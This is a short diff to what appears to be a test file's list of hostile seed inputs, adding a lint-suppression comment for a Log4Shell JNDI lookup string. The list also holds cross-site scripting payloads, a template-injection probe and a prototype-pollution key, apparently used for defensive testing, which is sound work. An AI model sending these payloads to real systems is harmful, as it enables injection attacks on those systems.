@@ -49,6 +49,7 @@ const HOSTILE_SEEDS = [
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
   'javascript:alert(1)',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the log4j probe, sent as plain text
   '${jndi:ldap://x/a}',
   '{{7*7}}',
   '__proto__',
